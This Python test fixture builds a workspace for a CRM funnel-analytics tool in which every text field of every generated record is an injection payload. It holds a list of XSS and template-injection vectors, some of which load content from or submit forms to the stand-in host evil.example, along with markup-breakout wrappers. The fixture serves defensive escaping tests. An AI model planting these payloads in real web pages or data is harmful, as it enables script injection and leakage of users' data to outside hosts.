"""An org in which every text of every record tries to become part of the page."""

from __future__ import annotations

import csv
from pathlib import Path

from leadline import workspace
from leadline.schema import OBJECTS, Kind
from leadline.workspace import Workspace

CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>x</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=//evil.example/x onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "x onmouseover=alert(1) y",
    "{{7*7}}{{config}}",
    "${alert(1)}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<%= alert(1) %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div hx-get=//evil.example/ hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<div data-hx-get=/logout data-hx-trigger=load>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
WRAPS = ("{}", '">{}', "'>{}", "</td></tr></table></textarea></title>{}", "]]>-->\u202e{}\u2028")
PAYLOADS = tuple(wrap.format(core) if "{}" in wrap else core for wrap in WRAPS for core in CORES)
"""Two hundred texts."""

TARGETS = {
    "LeadId": "Lead",
    "ContactId": "Contact",
    "ConvertedContactId": "Contact",
    "WhoId": "Contact",
    "CampaignId": "Campaign",
    "OpportunityId": "Opportunity",
    "ConvertedOpportunityId": "Opportunity",
    "WhatId": "Opportunity",
    "AccountId": "Account",
    "ConvertedAccountId": "Account",
    "OwnerId": "User",
    "CreatedById": "User",
    "LastModifiedById": "User",
    "Product2Id": "Product2",
    "RecordTypeId": "RecordType",
    "ModelId": "CampaignInfluenceModel",
    "CampaignMemberId": "CampaignMember",
    "OpportunityContactRoleId": "OpportunityContactRole",
}
PREFIX = {name: f"{at:03d}" for at, name in enumerate(OBJECTS, start=100)} | {
    "Lead": "00Q",
    "Contact": "003",
    "Campaign": "701",
    "Opportunity": "006",
    "Account": "001",
    "User": "005",
    "CampaignMember": "00v",
    "OpportunityContactRole": "00K",
}
TRUE = frozenset({"HasResponded", "IsActive", "IsPrimary", "IsDefaultModel"})
CONFIG = """
[[funnel.main.stages]]
name = "Inquiry"
from = [{{object = "CampaignMember", milestone = "response"}}]

[[funnel.main.stages]]
name = {first}
from = [{{object = "Lead", field = "Status", values = [{first}]}}]

[[funnel.main.stages]]
name = "SQL"
from = [{{object = "Opportunity", milestone = "created"}}]

[[funnel.main.stages]]
name = "Won"
from = [{{object = "Opportunity", milestone = "won"}}]

[formula.odd]
title = {second}
expression = "entered(Won) / entered(SQL)"
"""


def record_id(name: str, at: int) -> str:
    """The id of the record of an object with a number."""
    return f"{PREFIX[name]}{at:012d}AAA"


def hostile(folder: Path, rows: int) -> Workspace:
    """A workspace of an org with so many records of each object, every text of which is a payload."""
    export = folder / "export"
    export.mkdir(parents=True)
    for name, fields in OBJECTS.items():
        count = 1 if name in ("Organization", "CampaignInfluenceModel") else rows
        with (export / f"{name}.csv").open("w", newline="", encoding="utf-8") as file:
            out = csv.writer(file)
            out.writerow(fields)
            out.writerows([_value(name, field, kind, at) for field, kind in fields.items()] for at in range(count))
    made = workspace.create(folder / "workspace")
    first, second = (toml(PAYLOADS[at]) for at in (0, 1))
    (made.folder / "leadline.toml").write_text(CONFIG.format(first=first, second=second), encoding="utf-8")
    made.sources.import_files(export)
    return made


def toml(text: str) -> str:
    """A text as TOML writes it; payloads hold no line break."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _value(name: str, field: str, kind: Kind, at: int) -> str:
    if kind == "text":
        return _text(name, field, at)
    if kind == "id":
        return _id(name, field, at)
    if kind == "bool":
        won = field in ("IsWon", "IsClosed", "IsConverted") and at % 2 == 0
        return str(won or field in TRUE).lower()
    if kind == "datetime":
        return f"2026-0{1 + _turn(name)}-{1 + at % 28:02d}T10:00:00.000+0000"
    if kind == "date":
        return f"2026-0{2 + _turn(name)}-{1 + at % 28:02d}"
    return str(10 + at)


def _turn(name: str) -> int:
    """Month by object: people, then their responses, then deals."""
    return {"Lead": 0, "Contact": 0, "CampaignMember": 1, "Opportunity": 2, "OpportunityContactRole": 2}.get(name, 0)


def _text(name: str, field: str, at: int) -> str:
    if field == "TimeZoneSidKey":
        return "UTC"
    if field == "CurrencyIsoCode" and at % 10:
        return "USD"
    if field == "IsoCode" and at == 0:
        return "USD"
    if field == "Field":
        return ("Status", "StageName", PAYLOADS[at % len(PAYLOADS)])[at % 3]
    return PAYLOADS[(at + len(field)) % len(PAYLOADS)] if at else PAYLOADS[0]


def _id(name: str, field: str, at: int) -> str:
    if field == "Id":
        return record_id(name, at)
    if name == "CampaignMember" and field == "LeadId":
        return ""
    if field == "ModelId":
        return record_id("CampaignInfluenceModel", 0)
    return record_id(TARGETS[field], at) if field in TARGETS else ""
